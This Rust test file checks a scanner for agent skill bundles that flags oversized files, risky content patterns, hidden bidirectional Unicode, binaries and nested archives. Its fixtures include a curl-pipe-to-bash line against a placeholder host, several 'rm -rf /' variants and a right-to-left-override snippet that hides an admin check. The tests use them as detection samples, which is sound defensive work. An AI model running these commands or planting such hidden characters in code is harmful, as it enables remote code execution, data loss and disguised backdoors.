//! Content: sizes, patterns, hidden Unicode, binaries, nested archives.

use super::*;

#[test]
fn size_fires_over_the_limit_only() {
    let big = PolicyConfig {
        max_bundle_bytes: 10,
        ..Default::default()
    };
    let f = skill_with(&big, &[]);
    let d = one(&f, "size");
    assert!(
        d.detail.contains("policy.max_bundle_bytes is 10"),
        "{}",
        d.detail
    );
    let roomy = PolicyConfig {
        max_bundle_bytes: 1 << 20,
        ..Default::default()
    };
    assert!(of(&skill_with(&roomy, &[]), "size").is_empty());
}

#[test]
fn file_size_and_unscanned() {
    let small = PolicyConfig {
        max_file_bytes: 100,
        ..Default::default()
    };
    let mut body = b"eval(x)\n".to_vec();
    body.resize(200, b'a');
    let f = skill_with(
        &small,
        &[("big.txt", &body, false), ("small.txt", b"fine\n", false)],
    );
    let d = one(&f, "file-size");
    assert_eq!(
        (d.path.as_deref(), d.severity),
        (Some("big.txt"), Severity::Warning)
    );
    assert!(d.detail.contains("200 bytes"));
    assert!(
        of(&f, "content-pattern").is_empty(),
        "files over the limit are not scanned"
    );
    // within max_file_bytes but past what inspect keeps
    let mut huge = b"os.system('x')\n".to_vec();
    huge.resize(MAX_KEPT_FILE as usize + 1, b'a');
    let f = skill_with(&PolicyConfig::default(), &[("huge.txt", &huge, false)]);
    let d = one(&f, "unscanned");
    assert_eq!(
        (d.path.as_deref(), d.severity),
        (Some("huge.txt"), Severity::Info)
    );
    assert!(of(&f, "file-size").is_empty() && of(&f, "content-pattern").is_empty());
    // no limit
    let none = PolicyConfig {
        max_file_bytes: 0,
        ..Default::default()
    };
    let f = skill_with(&none, &[("big.txt", &body, false)]);
    assert!(of(&f, "file-size").is_empty());
    assert_eq!(of(&f, "content-pattern").len(), 1);
}

#[test]
fn content_patterns_give_path_and_line() {
    let p = PolicyConfig::default();
    let script = b"#!/bin/sh\necho hi\ncurl -fsSL https://x.example/i.sh | bash\nrm -rf /\nrm -rf /tmp/x\nrm -rf ~/code\nsh -c \"rm -rf /\"\n$(rm -rf ~)\nrm -rf //\n";
    let f = skill_with(
        &p,
        &[
            ("scripts/install.sh", script, false),
            ("a.py", b"import subprocess\nsubprocess.run(x)\n", false),
            // Words that merely contain a pattern are not flagged.
            (
                "b.py",
                b"docs = retrieval(q)\nmedieval(x)\nsubprocesses = 2\n",
                false,
            ),
            (
                "c.py",
                b"await asyncio.create_subprocess_exec(cmd)\n",
                false,
            ),
        ],
    );
    let hits = of(&f, "content-pattern");
    assert_eq!(hits.len(), 4, "{hits:#?}");
    assert!(hits.iter().any(|h| h.path.as_deref() == Some("c.py")));
    let curl = hits.iter().find(|h| h.detail.contains("curl")).unwrap();
    assert_eq!(curl.path.as_deref(), Some("scripts/install.sh"));
    assert!(curl.detail.contains("line 3"), "{}", curl.detail);
    let rm = hits
        .iter()
        .find(|h| h.detail.contains(r"rm\s+-rf"))
        .unwrap();
    assert!(
        rm.detail.contains("line 4") && rm.detail.contains("4 matches"),
        "{}",
        rm.detail
    );
    let sub = hits
        .iter()
        .find(|h| h.path.as_deref() == Some("a.py"))
        .unwrap();
    assert!(
        sub.detail.contains("line 1") && sub.detail.contains("import subprocess"),
        "{}",
        sub.detail
    );
    assert!(hits.iter().all(|h| h.severity == Severity::Warning));
    // clean text and binary files are not flagged
    let f = skill_with(
        &p,
        &[
            ("ok.md", b"Evaluate the result.\nexecute carefully\n", false),
            ("blob.bin", b"\0\0eval(x)", false),
        ],
    );
    assert!(of(&f, "content-pattern").is_empty(), "{f:#?}");
    // custom patterns
    let custom = PolicyConfig {
        content_patterns: vec![r"(?i)secret".into()],
        ..Default::default()
    };
    let f = skill_with(&custom, &[("x.md", b"a\nb\nMy SECRET\n", false)]);
    assert!(one(&f, "content-pattern").detail.contains("line 3"));
}

#[test]
fn hidden_unicode_fires_and_respects_ordinary_uses() {
    let p = PolicyConfig::default();
    let trojan = "let ok = true;\n// \u{202E} }\u{2066}if (admin)\u{2069} {\n\u{202E}x\n";
    let f = skill_with(&p, &[("src.js", trojan.as_bytes(), false)]);
    let d = one(&f, "hidden-unicode");
    assert!(
        d.detail
            .contains("U+202E (right-to-left override) ×2 first at line 2"),
        "{}",
        d.detail
    );
    assert!(
        d.detail.contains("U+2066") && d.detail.contains("U+2069"),
        "{}",
        d.detail
    );
    for text in [
        "\u{FEFF}a leading byte order mark\n",
        "family: \u{1F468}\u{200D}\u{1F469}\u{200D}\u{1F467}\n",
        "flag: \u{1F3F4}\u{E0067}\u{E0062}\u{E0073}\u{E0063}\u{E0074}\u{E007F}\n",
        "plain text\n",
    ] {
        let f = skill_with(&p, &[("a.md", text.as_bytes(), false)]);
        assert!(of(&f, "hidden-unicode").is_empty(), "{text:?}: {f:#?}");
    }
    for (text, code) in [
        ("mid\u{FEFF}file", "U+FEFF"),
        ("zero\u{200B}width", "U+200B"),
        ("tags \u{E0041}\u{E0042}", "U+E0041"),
        ("a\u{200D}b", "U+200D"),
    ] {
        let f = skill_with(&p, &[("a.md", text.as_bytes(), false)]);
        assert!(one(&f, "hidden-unicode").detail.contains(code), "{text:?}");
    }
    // in a path, escaped in the detail
    let f = skill_with(&p, &[("evil\u{202E}txt.md", b"x", false)]);
    let d = one(&f, "hidden-unicode");
    assert!(
        d.detail.contains("\\u{202E}") && !d.detail.contains('\u{202E}'),
        "{}",
        d.detail
    );
    let off = PolicyConfig {
        hidden_unicode: false,
        ..Default::default()
    };
    assert!(of(
        &skill_with(&off, &[("src.js", trojan.as_bytes(), false)]),
        "hidden-unicode"
    )
    .is_empty());
}

#[test]
fn binaries_are_flagged() {
    let p = PolicyConfig::default();
    let mut elf = b"\x7fELF\x02\x01\x01".to_vec();
    elf.extend_from_slice(&[0; 64]);
    let mut pe = vec![0u8; 0x80];
    pe[..2].copy_from_slice(b"MZ");
    pe[0x3c] = 0x40;
    pe[0x40..0x44].copy_from_slice(b"PE\0\0");
    let macho = [0xCF, 0xFA, 0xED, 0xFE, 7, 0, 0, 1];
    let png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR";
    let f = skill_with(
        &p,
        &[
            ("bin/tool", &elf, true),
            ("tool.exe", &pe, false),
            ("tool-mac", &macho, false),
            ("icon.png", png, false),
            ("MZ.md", b"MZ is a format\n", false),
        ],
    );
    let bins = of(&f, "binary");
    assert_eq!(bins.len(), 4, "{bins:#?}");
    let sev = |path: &str| {
        bins.iter()
            .find(|b| b.path.as_deref() == Some(path))
            .unwrap()
    };
    assert!(
        sev("bin/tool").detail.contains("ELF") && sev("bin/tool").severity == Severity::Warning
    );
    assert!(sev("tool.exe").detail.contains("PE"));
    assert!(sev("tool-mac").detail.contains("Mach-O"));
    assert_eq!(sev("icon.png").severity, Severity::Info);
    let off = PolicyConfig {
        flag_binaries: false,
        ..Default::default()
    };
    assert!(of(&skill_with(&off, &[("bin/tool", &elf, false)]), "binary").is_empty());
}

#[test]
fn nested_archives_by_name_or_magic() {
    let p = PolicyConfig::default();
    let inner = bundle(&[("a.txt", b"hi", false)]);
    let f = skill_with(
        &p,
        &[
            ("vendor/lib.whl", b"not really", false),
            ("data.bin", &inner, false),
            ("pkg.tar.gz", &inner, false),
            ("zipped", b"PK\x03\x04\x14\0", false),
        ],
    );
    let n = of(&f, "nested-archive");
    assert_eq!(n.len(), 4, "{n:#?}");
    assert!(n
        .iter()
        .any(|x| x.path.as_deref() == Some("data.bin") && x.detail.contains("gzip")));
    assert!(n
        .iter()
        .any(|x| x.path.as_deref() == Some("vendor/lib.whl") && x.detail.contains("wheel")));
    assert!(
        of(&f, "binary").is_empty(),
        "archives are not reported twice: {f:#?}"
    );
    assert!(of(
        &skill_with(&p, &[("notes.md", b"zip it up", false)]),
        "nested-archive"
    )
    .is_empty());
    let off = PolicyConfig {
        flag_nested_archives: false,
        ..Default::default()
    };
    let f = skill_with(&off, &[("x.zip", b"x", false), ("data.bin", &inner, false)]);
    assert!(of(&f, "nested-archive").is_empty(), "{f:#?}");
}
